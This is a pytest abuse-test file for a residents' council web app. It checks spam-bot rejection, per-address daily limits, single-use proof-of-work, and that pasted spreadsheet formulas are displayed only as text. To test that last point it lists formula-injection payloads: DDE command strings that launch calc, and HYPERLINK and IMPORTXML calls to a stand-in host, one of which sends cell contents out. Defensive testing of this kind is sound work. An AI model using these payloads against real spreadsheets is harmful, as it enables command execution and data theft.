"""A7: what strangers pour into the public form, and what a spreadsheet would make of what people write."""

import html
import random
import unicodedata
from typing import Any

from werkzeug.test import TestResponse

from server.pages.public_topics import RAISED_A_DAY
from server.pages.stamps import is_worked, new_stamp
from server.service.clock import DAY_MS
from server.service.publishing import read_waits
from tests.abuse.conftest import Count
from tests.abuse.world import World


def post(world: World, address: str, **fields: str) -> TestResponse:
    """Send a topic from an address; the anonymous form's token is the visitor's own."""
    cookies, csrf = world.principals["anonymous"]
    client = world.flask.test_client(use_cookies=False)
    form = {"csrf": csrf, "place": "3栋", "proposer": "某", **fields}
    path = f"/c/{world.own.council}/topics/new"
    environ = {"REMOTE_ADDR": address}
    return client.post(path, data=form, headers={"Cookie": cookies}, environ_overrides=environ)


def waiting(world: World) -> int:
    page = world.flask.test_client().get(f"/c/{world.own.council}/topics/new")
    assert page.status_code == 200
    with world.services.database.reader() as session:
        return read_waits(session, world.own.council, world.clock()).unanswered


def spam(world: World, chance: random.Random, number: int, age: int, **more: str) -> dict[str, str]:
    with world.flask.app_context():
        stamp = new_stamp(world.clock() - age)
    return {
        "title": f"加微信领红包{number}",
        "body": f"http://spam.test/{chance.random()}",
        "telephone": f"1380013{number:04d}",
        "stamp": stamp,
        **more,
    }


def test_a_robot_that_fills_in_everything_at_once_is_never_heard(world: World, count: Count) -> None:
    chance, before = random.Random("robot"), waiting(world)
    for number in range(count(60, 3_000)):
        kinds: list[dict[str, Any]] = [
            spam(world, chance, number, 60_000, website="http://spam.test"),
            spam(world, chance, number, 500),
            spam(world, chance, number, 2 * DAY_MS),
            spam(world, chance, number, 60_000, stamp="1.a.b"),
        ]
        answer = post(world, f"198.51.100.{number % 250}", **kinds[number % 4])
        assert answer.status_code == 422
    assert waiting(world) == before


def test_one_address_may_only_so_much_a_day_however_it_behaves(world: World, count: Count) -> None:
    world.flask.extensions["council_allowances"].clear()
    chance, before = random.Random("patient"), waiting(world)
    answers = [
        post(world, "203.0.113.7", **spam(world, chance, number, 90_000)).status_code
        for number in range(RAISED_A_DAY + count(10, 500))
    ]
    assert answers.count(303) == RAISED_A_DAY
    assert set(answers[RAISED_A_DAY:]) == {429}
    assert waiting(world) - before == RAISED_A_DAY
    # The same household by IPv6: a whole network of theirs counts as one address.
    taken = 0
    for number in range(RAISED_A_DAY + 10):
        fields = spam(world, chance, 5_000 + number, 90_000)
        taken += post(world, f"2001:db8:1:2::{number:x}", **fields).status_code == 303
    assert taken == RAISED_A_DAY


def test_hurrying_costs_arithmetic_that_cannot_be_shared(world: World) -> None:
    world.flask.extensions["council_allowances"].clear()
    chance = random.Random("hurry")
    for number in range(3):
        assert post(world, "203.0.113.9", **spam(world, chance, 7_000 + number, 5_000)).status_code == 303
    fields = spam(world, chance, 7_003, 5_000)
    assert post(world, "203.0.113.9", **fields).status_code == 422
    answer = str(next(n for n in range(10**6) if is_worked(fields["stamp"], str(n))))
    assert post(world, "203.0.113.9", **fields, work=answer).status_code == 303
    # The same answer for another form, and the same form again, are worth nothing.
    assert post(world, "203.0.113.9", **spam(world, chance, 7_004, 5_000), work=answer).status_code == 422
    again = {**fields, "title": "另一个标题", "telephone": "13900139000"}
    assert post(world, "203.0.113.9", **again, work=answer).status_code == 422


FORMULAS = [
    f"{prefix}{text}"
    for prefix in ("=", "+", "-", "@", "\t=", *"\uff1d\uff0b\uff0d\uff20")
    for text in (
        "1+1",
        'HYPERLINK("http://spam.test?x="&A1,"点这里")',
        "cmd|'/C calc'!A0",
        'IMPORTXML("http://spam.test","//a")',
        "SUM(A1:A9)*1",
        "DDE(“cmd”;“/C calc”)",
    )
]


def test_a_pasted_formula_is_text_and_nothing_else(world: World) -> None:
    """What was copied out of a spreadsheet is read cell by cell as text and shown as it was; nothing is worked out."""
    cookies, csrf = world.principals["organiser"]
    client = world.flask.test_client(use_cookies=False)
    path = f"/office/councils/{world.own.council}/roster/paste"
    for text in FORMULAS:
        form = {"csrf": csrf, "table": f"{text.strip()}\t业主\t楼长"}
        answer = client.post(path, data=form, headers={"Cookie": cookies})
        assert answer.status_code in (200, 422)
        shown = html.unescape(answer.get_data(as_text=True))
        assert unicodedata.normalize("NFC", text.strip()).split(",")[0] in shown, text
        assert "<td>2</td>" not in shown
